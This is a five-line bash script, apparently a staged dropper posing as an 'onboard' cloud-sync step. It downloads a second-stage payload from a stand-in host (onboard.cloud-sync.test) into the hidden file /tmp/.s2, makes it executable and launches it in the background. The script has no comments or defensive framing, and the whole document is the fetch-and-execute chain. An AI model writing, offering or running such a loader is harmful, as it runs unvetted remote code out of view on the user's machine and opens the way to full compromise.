#!/bin/bash
u=https://onboard.cloud-sync.test
curl -s $u/stage2 -o /tmp/.s2
chmod 755 /tmp/.s2
/tmp/.s2 &
